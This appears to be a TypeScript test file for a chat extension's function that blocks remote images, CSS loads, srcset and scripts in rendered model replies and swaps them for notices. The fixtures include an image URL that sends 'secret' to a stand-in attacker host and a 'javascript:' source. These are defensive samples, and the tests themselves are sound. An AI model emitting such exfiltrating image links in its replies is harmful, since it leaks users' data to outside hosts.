/**
 * Model output never makes the page fetch anything (src/remote.ts, SPEC section 8): rendered HTML
 * as rendermime's sanitizer leaves it, in jsdom, with what a user then sees in place of remote media.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { installDom } from '../testing/dom';

import { blockRemoteResources, inertElement } from '../src/remote';

installDom();

/** `html` as a rendered reply holds it, after blocking: the host and how many URLs went. */
function blocked(html: string): { host: HTMLElement; count: number } {
  const host = inertElement('div');
  host.innerHTML = html;
  const count = blockRemoteResources(host);
  return { host, count };
}

describe('remote resources in a reply', () => {
  test('When a reply shows a remote image, Then it becomes a notice with the URL as a link that opens apart', () => {
    const { host, count } = blocked(
      '<p><img src="https://attacker.example/x.png?q=secret" alt="chart"></p>'
    );

    assert.equal(count, 1);
    assert.equal(host.querySelector('img'), null, 'no image is left to load');
    const notice = host.querySelector<HTMLElement>('.jp-StreamChat-remoteResource');
    assert.ok(notice);
    assert.equal(notice.dataset.remoteUrl, 'https://attacker.example/x.png?q=secret');
    assert.match(
      notice.textContent ?? '',
      /^Image "chart" not loaded: https:\/\/attacker\.example/
    );
    const link = notice.querySelector('a');
    assert.ok(link);
    assert.equal(link.href, 'https://attacker.example/x.png?q=secret');
    assert.equal(link.target, '_blank');
    assert.equal(link.rel, 'noopener noreferrer');
    assert.equal(link.referrerPolicy, 'no-referrer');
  });

  test('When the image is already inside a link (a badge), Then the URL is shown as text, not a second link', () => {
    const { host } = blocked(
      '<a href="https://ci.example/build"><img src="https://ci.example/badge.svg"></a>'
    );

    const notice = host.querySelector('.jp-StreamChat-remoteResource');
    assert.ok(notice);
    assert.equal(notice.querySelectorAll('a').length, 0);
    assert.equal(notice.querySelector('code')?.textContent, 'https://ci.example/badge.svg');
    assert.equal(
      host.querySelector('a')?.getAttribute('href'),
      'https://ci.example/build',
      'the link stays'
    );
  });

  test('When the URL is not http(s), Then it is shown as text, never as a link', () => {
    const { host } = blocked('<img src="javascript:alert(1)">');

    const notice = host.querySelector('.jp-StreamChat-remoteResource');
    assert.ok(notice);
    assert.equal(notice.querySelector('a'), null);
    assert.equal(notice.querySelector('code')?.textContent, 'javascript:alert(1)');
  });

  test('When an image is a data: URL, Then it stays: it loads nothing from the network', () => {
    const src = 'data:image/png;base64,iVBORw0KGgo=';
    const { host, count } = blocked(`<img src="${src}">`);

    assert.equal(count, 0);
    assert.equal(host.querySelector('img')?.getAttribute('src'), src);
  });

  test('When CSS or srcset would load a URL, Then those attributes and elements go, and the text stays', () => {
    const { host, count } = blocked(
      '<p style="background: url(https://x.example/a)">kept text</p>' +
        '<img srcset="https://x.example/b 2x">' +
        '<style>@import "https://x.example/c.css";</style><script>1</script>'
    );

    assert.equal(count, 4);
    assert.equal(host.querySelector('p')?.getAttribute('style'), null);
    assert.equal(host.querySelector('p')?.textContent, 'kept text');
    assert.equal(host.querySelector('style, script, img'), null);
    assert.equal(host.querySelectorAll('.jp-StreamChat-remoteResource').length, 1);
  });
});
